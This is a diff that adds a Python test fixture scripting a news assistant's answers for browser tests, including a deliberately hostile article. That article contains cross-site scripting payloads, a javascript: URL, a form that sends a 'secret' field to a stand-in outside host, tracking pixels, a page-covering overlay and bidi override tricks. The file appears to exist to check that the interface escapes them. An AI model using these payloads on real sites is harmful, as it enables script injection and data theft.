@@ -1,0 +1,66 @@
+"""What the scripted assistant answers in browser tests: plain, refused, unsupported, hostile."""
+
+import datetime as dt
+
+from core.errors import DatelineError, ModelUnreachableError
+from core.types import Answer, Article
+from tests.web.fakes import ANSWER, MARKET, NOTES, QUAY, FakeLibrary, cite, passage
+
+BAIT = "The wall <img src=x onerror=alert(1)> holds ${alert(2)} {{alert(3)}} well."
+HOSTILE = Article(
+    id='hostile"><script>alert(4)</script>',
+    title="<script>alert(5)</script> \u202eReversed\u202c title ${alert(6)}",
+    source="<b onmouseover=alert(7)>Outlet</b>",
+    published=dt.date(2026, 3, 1),
+    url="javascript:alert(8)",
+    text=(
+        f"{BAIT}\n\n"
+        '<form action="https://outside.example/steal"><input name=secret autofocus></form>\n\n'
+        '<div style="position:fixed;inset:0;background:red;z-index:9999">COVER</div>\n\n'
+        '<img src="https://outside.example/pixel.png"> ![pixel](https://outside.example/pixel.png)\n\n'
+        f"{'Wortungeheuer' * 60}\n\n"
+        "\u202eThis line runs backwards and must not turn the page.\n\n"
+        "</article></div></body><script>alert(9)</script>"
+    ),
+)
+LONG = Article(
+    id="long",
+    title="A paragraph of a megabyte",
+    source="Coast Weekly",
+    published=dt.date(2026, 3, 2),
+    text=f"{'Sand and water. ' * 32_000}The one true sentence stands here. {'Water and sand. ' * 32_000}",
+)
+TRUE = "The one true sentence stands here."
+CLAIM = "The mayor flies to the moon."
+
+SCRIPTS: dict[str, Answer | DatelineError] = {
+    "repair": ANSWER,
+    "second": Answer(
+        "",
+        "Traders put the damage at 38 million crowns. [1]",
+        (cite(1, MARKET, "Traders put the damage at 38 million crowns."),),
+        (passage(MARKET, "Traders put the damage at 38 million crowns."),),
+    ),
+    "hostile": Answer(
+        "", f"{BAIT} [1] <script>alert(10)</script>", (cite(1, HOSTILE, BAIT),), (passage(HOSTILE, BAIT),)
+    ),
+    "long": Answer("", f"{TRUE} [1]", (cite(1, LONG, TRUE),), (passage(LONG, TRUE),)),
+    "moon": Answer(
+        "",
+        f"The repair cost 41 million crowns. [1] {CLAIM}",
+        (cite(1, QUAY, "The repair cost 41 million crowns."),),
+        (passage(QUAY, "The repair cost 41 million crowns."),),
+        model="gguf:small.gguf",
+        unsupported=((39, 39 + len(CLAIM)),),
+    ),
+    "unplugged": ModelUnreachableError("no connection to http://127.0.0.1:9: start the server or choose another model"),
+}
+
+
+def library() -> FakeLibrary:
+    """The articles that the scripts cite, and enough others for three pages."""
+    others = [
+        Article(id=f"other-{number:02}", title=f"Harbour note {number:02}", source="Notes", text="Ships came and went.")
+        for number in range(42)
+    ]
+    return FakeLibrary(QUAY, MARKET, NOTES, HOSTILE, LONG, *others)
